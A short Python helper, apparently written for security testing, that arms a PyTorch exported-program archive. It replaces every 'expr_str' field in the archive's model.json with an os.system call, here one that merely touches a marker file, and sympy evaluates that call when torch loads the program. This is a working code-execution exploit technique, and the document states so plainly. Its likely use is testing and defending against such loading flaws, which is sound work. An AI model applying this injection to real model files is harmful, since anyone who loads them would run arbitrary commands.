"""Turn a valid exported program into a hostile one, which runs a shell command when torch loads the program."""

import json
import zipfile
from pathlib import Path


def arm(file: Path, mark: Path) -> None:
    """Rewrite `file` so that loading it creates `mark`: each symbolic size becomes a call, which sympy evaluates."""
    with zipfile.ZipFile(file) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    (name,) = (name for name in members if name.endswith("models/model.json"))
    program = json.loads(members[name])
    members[name] = json.dumps(_armed(program, f"__import__('os').system('touch {mark}')")).encode()
    with zipfile.ZipFile(file, "w") as archive:
        for member, content in members.items():
            archive.writestr(member, content)


def _armed(value: object, command: str) -> object:
    if isinstance(value, dict):
        return {
            key: command if key == "expr_str" else _armed(element, command) for key, element in value.items()
        }
    return [_armed(element, command) for element in value] if isinstance(value, list) else value
